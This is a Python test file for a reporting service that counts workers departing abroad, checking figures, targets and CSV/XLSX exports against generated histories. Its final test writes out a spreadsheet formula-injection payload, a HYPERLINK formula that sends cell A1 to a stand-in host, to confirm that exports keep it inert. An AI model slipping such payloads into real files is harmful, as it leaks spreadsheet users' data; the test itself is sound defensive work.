"""The figures, computed by the pure domain from a generated history's facts, against the
independent count; order, duplicates, late arrival, cancellation and early return."""

from __future__ import annotations

import io
import random
from datetime import UTC, date, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from services.reporting.domain.exports import report_csv, report_json, report_rows, report_xlsx
from services.reporting.domain.facts import Fact, fact_of
from services.reporting.domain.figures import Period, Scope, Units, compute_report
from services.reporting.domain.targets import SetTargets, new_version, target_for, target_period
from services.reporting.domain.units import current_communes
from shared.errors import FieldError
from shared.events.envelope import decode_payload
from tests.reporting.checks import assert_figures_match
from tests.reporting.history import PROVINCE, events_of, expected_figures, generate

NOW = datetime(2026, 1, 10, tzinfo=UTC)
TRUTHS = generate(seed=7)
EVENTS = events_of(TRUTHS, seed=7)


def facts_of(received_at: datetime = NOW - timedelta(days=1)) -> list[Fact]:
    facts = [fact_of(e, decode_payload(e), received_at) for e in EVENTS]
    return [f for f in facts if f is not None]


FACTS = facts_of()
COMMUNES = current_communes(PROVINCE)
PERIODS = [
    Period(date(2025, 1, 1), date(2025, 12, 31)),
    Period.month("2025-03"),
    Period.month("2025-07"),
    Period(date(2024, 11, 15), date(2025, 5, 31)),
]


def report_of(facts: list[Fact], period: Period, **kwargs: object):
    return compute_report(facts, Scope(PROVINCE), period, NOW, communes=COMMUNES, **kwargs)  # type: ignore[arg-type]


@pytest.mark.parametrize("period", PERIODS, ids=lambda p: f"{p.starts_on}..{p.ends_on}")
def test_every_figure_equals_the_independent_count(period: Period) -> None:
    report = report_of(FACTS, period)
    figures = report_json(report)["figures"]
    assert_figures_match(figures, expected_figures(TRUTHS, period.starts_on, period.ends_on))
    assert report.value("departures") > 0 or period.ends_on < date(2025, 3, 1)


def test_the_history_covers_what_the_figures_must_survive() -> None:
    departures = [d for t in TRUTHS for d in t.departures]
    assert any(d.cancelled_before for d in departures)
    assert any(d.voided for d in departures)
    assert any(d.return_reason in ("early_termination", "repatriation") for d in departures)
    assert any(t.merged for t in TRUTHS)
    assert any(t.first_commune != t.commune for t in TRUTHS)
    assert len({d.market for d in departures}) == 4


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.randoms(use_true_random=False), st.integers(min_value=0, max_value=40))
def test_arrival_order_and_duplicates_change_nothing(rng: random.Random, repeats: int) -> None:
    period = PERIODS[0]
    shuffled = list(FACTS) + [rng.choice(FACTS) for _ in range(repeats)]
    rng.shuffle(shuffled)
    assert report_of(shuffled, period).figures == report_of(FACTS, period).figures


def test_a_report_as_of_a_moment_ignores_what_arrived_later() -> None:
    period = PERIODS[0]
    before = report_of(FACTS, period)
    counted = before.figure("departures").evidence
    # The same history, plus three departures in the period that arrived after NOW.
    late = [
        f.model_copy(
            update={
                "event_id": f"late-{f.event_id}",
                "placement_id": f"late-{f.placement_id}",
                "received_at": NOW + timedelta(hours=1),
            }
        )
        for f in FACTS
        if f.event_id in counted
    ][:3]
    again = report_of(FACTS + late, period)
    assert report_csv(again) == report_csv(before)
    later = compute_report(
        FACTS + late, Scope(PROVINCE), period, NOW + timedelta(hours=2), communes=COMMUNES
    )
    assert later.value("departures") == before.value("departures") + 3


def test_a_cancelled_departure_and_an_early_return_leave_the_figures() -> None:
    departed = next(f for f in FACTS if f.kind == "worker.departed" and f.on.year == 2025)
    period = Period(departed.on, date(2025, 12, 31))
    base = report_of(FACTS, period)
    cancelled = departed.model_copy(
        update={"event_id": "cancel-1", "kind": "placement.cancelled", "on": departed.on}
    )
    returned = departed.model_copy(
        update={
            "event_id": "back-1",
            "kind": "worker.returned",
            "return_reason": "early_termination",
            "on": departed.on + timedelta(days=1),
        }
    )
    without = report_of([*FACTS, cancelled], period)
    home = report_of([*FACTS, returned], period)
    if departed.placement_id not in {f.placement_id for f in FACTS if f.kind == "worker.returned"}:
        assert without.value("departures") == base.value("departures") - 1
        assert without.value("abroad") == base.value("abroad") - 1
        assert home.value("departures") == base.value("departures")
        assert home.value("abroad") == base.value("abroad") - 1
        assert home.value("returns.kind.early") == base.value("returns.kind.early") + 1


def test_former_units_group_by_the_communes_before_2025() -> None:
    period = PERIODS[0]
    report = compute_report(FACTS, Scope(PROVINCE, Units.FORMER), period, NOW)
    former = {t.former_commune for t in TRUTHS if t.province == PROVINCE}
    keys = {f.key for f in report.figures if f.breakdown == "commune"}
    assert keys
    assert keys <= former
    current = report_of(FACTS, period)
    assert report.value("departures") == current.value("departures")


def test_achievement_uses_the_newest_target_set_by_the_report_moment() -> None:
    period = target_period("2025")
    communes = sorted({t.commune for t in TRUTHS if t.province == PROVINCE})
    goals = {c: 5 for c in communes}
    first_set = SetTargets(province_target=40, communes=goals, set_by="m1")
    second_set = SetTargets(province_target=20, communes={communes[0]: 2}, set_by="m1")
    first = new_version(PROVINCE, period, first_set, set(COMMUNES), None, NOW - timedelta(days=30))
    second = new_version(
        PROVINCE, period, second_set, set(COMMUNES), first, NOW - timedelta(days=1)
    )
    assert second.version == 2
    assert target_for([first, second], date(2025, 6, 1), NOW - timedelta(days=10)) == first
    assert target_for([first, second], date(2025, 6, 1), NOW) == second
    report = report_of(FACTS, Period.month("2025-12"), targets=[first, second])
    expected = expected_figures(TRUTHS, date(2025, 12, 1), date(2025, 12, 31), {communes[0]: 2}, 20,
                                date(2025, 1, 1))  # fmt: skip
    assert_figures_match(report_json(report)["figures"], expected)


def test_targets_name_their_period_and_their_communes() -> None:
    with pytest.raises(FieldError):
        target_period("2025-2040")
    with pytest.raises(FieldError):
        target_period("twenty")
    assert target_period("2025-2030").ends_on == date(2030, 12, 31)
    foreign = SetTargets(province_target=1, communes={"99999": 1}, set_by="m")
    with pytest.raises(FieldError):
        new_version(PROVINCE, target_period("2025"), foreign, set(COMMUNES), None, NOW)


def test_csv_and_json_hold_the_same_rows() -> None:
    report = report_of(FACTS, Period.month("2025-07"))
    lines = report_csv(report).decode().splitlines()
    assert lines[0].startswith("province,period_from,period_to,units,as_of,figure")
    assert len(lines) - 1 == len(report_rows(report)) == len(report_json(report)["figures"])
    for line, figure in zip(lines[1:], report_json(report)["figures"], strict=True):
        assert line.split(",")[5:8] == [figure["figure"], figure["breakdown"], figure["key"]]
        assert line.split(",")[8] == str(figure["value"])


def test_the_ministry_sheet_shows_the_month_and_the_year_so_far() -> None:
    month = report_of(FACTS, Period.month("2025-07"))
    year = report_of(FACTS, Period(date(2025, 1, 1), date(2025, 7, 31)))
    workbook = load_workbook(io.BytesIO(report_xlsx(month, year)))
    assert workbook.sheetnames == ["Báo cáo", "report"]
    sheet = workbook["Báo cáo"]
    rows = {r[1]: r for r in sheet.iter_rows(values_only=True) if r[1]}
    departures = expected_figures(TRUTHS, date(2025, 7, 1), date(2025, 7, 31))
    so_far = expected_figures(TRUTHS, date(2025, 1, 1), date(2025, 7, 31))
    left = rows["Người lao động đi làm việc ở nước ngoài theo hợp đồng"]
    assert left[3:5] == (departures["departures"], so_far["departures"])
    assert left[3] > 0
    labels = [r[1] for r in sheet.iter_rows(values_only=True)]
    japan = next(r for r in sheet.iter_rows(values_only=True) if r[1] == "Nhật Bản")  # section I
    assert labels.index("Nhật Bản") < labels.index("Người lao động đang ở nước ngoài (cuối kỳ)")
    assert japan[3] == departures.get("departures.market.JP", 0)
    assert rows["Người lao động đang ở nước ngoài (cuối kỳ)"][3] == departures["abroad"]
    assert sheet["A5"].value == "Tháng 07 năm 2025"
    table = list(sheet.iter_rows(values_only=True))
    start = next(i for i, r in enumerate(table) if r[0] == "XI. KẾT QUẢ THEO XÃ, PHƯỜNG") + 2
    communes = [r for r in table[start:] if r[0] and str(r[0]).isdigit()]
    assert sum(r[2] for r in communes) == departures["departures"]
    assert sum(r[3] for r in communes) == so_far["departures"]
    machine = [tuple(r) for r in workbook["report"].iter_rows(min_row=2, values_only=True)]
    assert [(r[5], r[6], r[7] or "", r[8]) for r in machine] == [
        (n, b, k, v) for *_, n, b, k, v in report_rows(month)
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_commune_code_that_reads_as_a_formula_stays_text_in_every_download(start: str) -> None:
    """A worker.registered from the topic is not checked against the units file: its commune
    code reaches the report's breakdown keys, the CSV and both sheets of the XLSX."""
    hostile = f'{start}HYPERLINK("http://x.example/?"&A1,"ok")'
    registration = next(e for e in EVENTS if e.type == "worker.registered")
    data = {**registration.data}
    data["locality"] = {**data["locality"], "commune_code": hostile}
    hostile_registration = registration.model_copy(update={"data": data})
    events = [hostile_registration if e is registration else e for e in EVENTS]
    received_at = NOW - timedelta(days=1)
    facts = [f for e in events if (f := fact_of(e, decode_payload(e), received_at))]
    month = report_of(facts, Period(date(2025, 1, 1), date(2025, 12, 31)))
    assert any(f.key == hostile for f in month.figures)
    assert f"\n'{start}HYPERLINK" not in report_csv(month).decode()
    assert f",\"'{start}HYPERLINK" in report_csv(month).decode()
    workbook = load_workbook(io.BytesIO(report_xlsx(month, month)))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    named = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert named
    assert all(c.data_type == "s" and not c.value.startswith(start) for c in named)
